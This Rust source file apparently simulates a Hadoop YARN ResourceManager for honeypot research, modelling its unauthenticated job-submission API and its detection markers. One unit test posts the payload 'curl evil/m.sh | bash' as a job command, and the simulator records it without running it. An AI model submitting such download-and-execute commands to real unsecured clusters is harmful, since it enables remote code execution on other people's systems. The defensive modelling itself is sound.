//! Apache Hadoop YARN ResourceManager model.
//!
//! * Insecure by default (no Kerberos); the REST API submits applications
//!   that execute arbitrary shell commands. Hadoop was by far the most
//!   attacked honeypot (1,921 of 2,195 attacks).
//! * Detection: `GET /cluster/cluster` (lower-cased) contains 'hadoop',
//!   'resourcemanager' and 'logged in as: dr.who';
//!   `GET /ws/v1/cluster/apps/new-application` returns JSON with an
//!   `application-id`.

use crate::base::{impl_webapp, json_field, BaseApp};
use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::{AppEvent, HandleOutcome};
use crate::html;
use crate::version::Version;
use nokeys_http::{Request, Response, StatusCode};
use std::net::Ipv4Addr;

#[derive(Debug, Clone)]
pub struct Hadoop {
    pub(crate) base: BaseApp,
    next_app_id: u32,
    submitted: Vec<String>,
}

impl Hadoop {
    pub fn new(version: Version, config: AppConfig) -> Self {
        Hadoop {
            base: BaseApp::new(AppId::Hadoop, version, config),
            next_app_id: 1,
            submitted: Vec::new(),
        }
    }

    fn open(&self) -> bool {
        !self.base.config.auth_enabled
    }

    fn kerberos_challenge() -> Response {
        Response::new(StatusCode::UNAUTHORIZED)
            .with_header("WWW-Authenticate", "Negotiate")
            .with_body(
                "Authentication required: Apache Hadoop ResourceManager is \
                 protected by Kerberos (SPNEGO).",
            )
    }

    fn cluster_page(&self) -> Response {
        Response::html(html::page_with_head(
            "About the Cluster - Apache Hadoop",
            &html::css("/static/yarn.css"),
            &format!(
                "<div id=\"header\">Apache Hadoop ResourceManager \
                 <span>Logged in as: dr.who</span></div>\
                 <table><tr><td>ResourceManager version:</td><td>{}</td></tr>\
                 <tr><td>Hadoop version:</td><td>{}</td></tr>\
                 <tr><td>ResourceManager state:</td><td>STARTED</td></tr></table>",
                self.base.version.number(),
                self.base.version.number()
            ),
        ))
    }

    fn route(&mut self, req: &Request, _peer: Ipv4Addr) -> HandleOutcome {
        if !self.open() {
            return Self::kerberos_challenge().into();
        }
        match (req.method, req.path()) {
            (nokeys_http::Method::Get, "/") => Response::redirect("/cluster").into(),
            (nokeys_http::Method::Get, "/cluster")
            | (nokeys_http::Method::Get, "/cluster/cluster") => self.cluster_page().into(),
            (nokeys_http::Method::Get, "/ws/v1/cluster/info") => Response::json(format!(
                "{{\"clusterInfo\":{{\"id\":1,\"state\":\"STARTED\",\
                 \"resourceManagerVersion\":\"{}\",\"hadoopVersion\":\"{}\"}}}}",
                self.base.version.number(),
                self.base.version.number()
            ))
            .into(),
            // The paper's plugin *visits* this endpoint (GET); real YARN
            // also accepts POST. Both return a fresh application id.
            (_, "/ws/v1/cluster/apps/new-application") => {
                let id = format!("application_1623000000000_{:04}", self.next_app_id);
                self.next_app_id += 1;
                Response::json(format!(
                    "{{\"application-id\":\"{id}\",\"maximum-resource-capability\":\
                     {{\"memory\":8192,\"vCores\":4}}}}"
                ))
                .into()
            }
            (nokeys_http::Method::Post, "/ws/v1/cluster/apps") => {
                let body = req.body_text();
                let command = json_field(&body, &["command"]).unwrap_or(&body).to_string();
                self.submitted.push(command.clone());
                HandleOutcome::with_event(
                    Response::new(StatusCode(202))
                        .with_header("Content-Type", "application/json")
                        .with_body("{}"),
                    AppEvent::JobSubmitted { payload: command },
                )
            }
            _ => Response::not_found().into(),
        }
    }

    fn reset_state(&mut self) {
        self.next_app_id = 1;
        self.submitted.clear();
    }
}

impl_webapp!(Hadoop, Hadoop::reset_state);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traits::{Driver, WebApp};
    use crate::version::release_history;
    const DRIVER: Driver = Driver::new();

    fn default_latest() -> Hadoop {
        let v = *release_history(AppId::Hadoop).last().unwrap();
        Hadoop::new(v, AppConfig::default_for(AppId::Hadoop, &v))
    }

    #[test]
    fn insecure_by_default_with_drwho() {
        let mut app = default_latest();
        assert!(app.is_vulnerable());
        let body = DRIVER
            .get(&mut app, "/cluster/cluster")
            .response
            .body_text()
            .to_lowercase();
        assert!(body.contains("hadoop"));
        assert!(body.contains("resourcemanager"));
        assert!(body.contains("logged in as: dr.who"));
    }

    #[test]
    fn new_application_returns_id() {
        let mut app = default_latest();
        let body = DRIVER
            .get(&mut app, "/ws/v1/cluster/apps/new-application")
            .response
            .body_text();
        assert!(body.contains("application-id"));
        // Ids increment per request.
        let body2 = DRIVER
            .get(&mut app, "/ws/v1/cluster/apps/new-application")
            .response
            .body_text();
        assert_ne!(body, body2);
    }

    #[test]
    fn app_submission_is_code_execution() {
        let mut app = default_latest();
        let out = DRIVER.post(
            &mut app,
            "/ws/v1/cluster/apps",
            r#"{"application-id":"application_1","am-container-spec":{"commands":{"command":"curl evil/m.sh | bash"}}}"#,
        );
        assert!(matches!(
            &out.events[0],
            AppEvent::JobSubmitted { payload } if payload.contains("curl evil")
        ));
        assert_eq!(out.response.status.as_u16(), 202);
    }

    #[test]
    fn kerberized_cluster_is_walled() {
        let v = *release_history(AppId::Hadoop).last().unwrap();
        let mut app = Hadoop::new(v, AppConfig::secure_for(AppId::Hadoop, &v));
        assert!(!app.is_vulnerable());
        let out = DRIVER.get(&mut app, "/cluster/cluster");
        assert_eq!(out.response.status.as_u16(), 401);
        let out = DRIVER.post(&mut app, "/ws/v1/cluster/apps", "{}");
        assert!(out.events.is_empty());
    }

    #[test]
    fn yarn_css_marker_for_prefilter() {
        let mut app = default_latest();
        let body = DRIVER
            .get(&mut app, "/cluster/cluster")
            .response
            .body_text();
        assert!(body.contains("/static/yarn.css"));
    }
}
